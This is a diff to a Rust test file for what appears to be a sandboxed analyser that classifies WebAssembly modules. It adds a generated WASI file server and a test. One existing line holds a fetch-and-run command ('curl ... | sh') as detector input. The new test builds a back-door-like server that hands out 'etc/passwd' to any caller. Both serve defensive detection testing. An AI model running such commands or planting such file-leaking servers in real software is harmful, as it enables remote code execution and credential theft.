@@ -461,3 +461,61 @@ fn a_folder_in_the_path_is_no_command() {
     let fetch = adds("curl -s http://203.0.113.7/a | sh").verdict;
     assert!(fetch.class >= Class::Suspicious, "{:?}", fetch.reasons);
 }
+
+/// Serves the file of a folder that its argument names, or one whose path is at 512, to whoever asks.
+fn serving(path: &str) -> String {
+    let named = "(local.set $at (i32.load (i32.const 308)))
+        (loop $end (local.set $len (i32.add (local.get $len) (i32.const 1)))
+          (br_if $end (i32.load8_u (i32.add (local.get $at) (local.get $len)))))
+        (memory.copy (i32.const 600) (i32.add (local.get $at) (i32.const 1)) (i32.sub (local.get $len) (i32.const 1)))
+        (memory.copy (i32.add (i32.const 599) (local.get $len)) (i32.const 560) (i32.const 11))
+        (local.set $at (i32.const 600)) (local.set $len (i32.add (local.get $len) (i32.const 10)))";
+    let fixed = format!("(local.set $at (i32.const 512)) (local.set $len (i32.const {}))", path.len());
+    let way = if path.is_empty() { named } else { &fixed };
+    format!(
+        r#"(module {OPENS}
+          (func (export "_start") (local $at i32) (local $len i32) (local $to i32))
+          (data (i32.const 512) "{path}") (data (i32.const 560) "/index.html"))"#
+    )
+    .replacen(
+        "(module",
+        r#"(module
+          (import "wasi_snapshot_preview1" "args_get" (func $args (param i32 i32) (result i32)))
+          (import "wasi_snapshot_preview1" "sock_accept" (func $accept (param i32 i32 i32) (result i32)))
+          (import "wasi_snapshot_preview1" "sock_recv"
+            (func $receive (param i32 i32 i32 i32 i32 i32) (result i32)))"#,
+        1,
+    )
+    .replacen(
+        "(local $to i32))",
+        &format!(
+            "(local $to i32)
+             (drop (call $args (i32.const 304) (i32.const 330))) {way}
+             (drop (call $accept (i32.const 4) (i32.const 0) (i32.const 280)))
+             (local.set $to (i32.load (i32.const 280)))
+             (i32.store (i32.const 0) (i32.const 9000)) (i32.store (i32.const 4) (i32.const 2000))
+             (drop (call $receive (local.get $to) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8)
+               (i32.const 290)))
+             (call $read (call $open (local.get $at) (local.get $len) (i32.const 0) (i64.const 0x200006)))
+             (drop (call $sock_send (local.get $to) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8))))"
+        ),
+        1,
+    )
+}
+
+/// A server is told by its arguments what to serve.
+#[test]
+fn a_server_of_a_folder_that_was_named_is_no_back_door() {
+    let served = |path: &str| {
+        let persona = sandbox::Persona::shipped("server").expect("a persona");
+        let mut options = sandbox::RunOptions::default().with_persona(persona);
+        options.args = ["serve", "/srv/app/public"].map(str::to_owned).to_vec();
+        Analysis::with_values(serving(path).as_bytes(), &options, &rules::Set::builtin(), Look::Auto)
+    };
+    let asked = served("");
+    let run = asked.run.as_ref().unwrap();
+    assert!(run.connections.iter().any(|one| !one.sent.is_empty()), "{:?}", run.calls);
+    assert!(asked.verdict.class <= Class::Undecided, "{:?}", asked.verdict.reasons);
+    let other = served("etc/passwd");
+    assert!(other.verdict.class >= Class::Suspicious, "{:?}", other.verdict.reasons);
+}
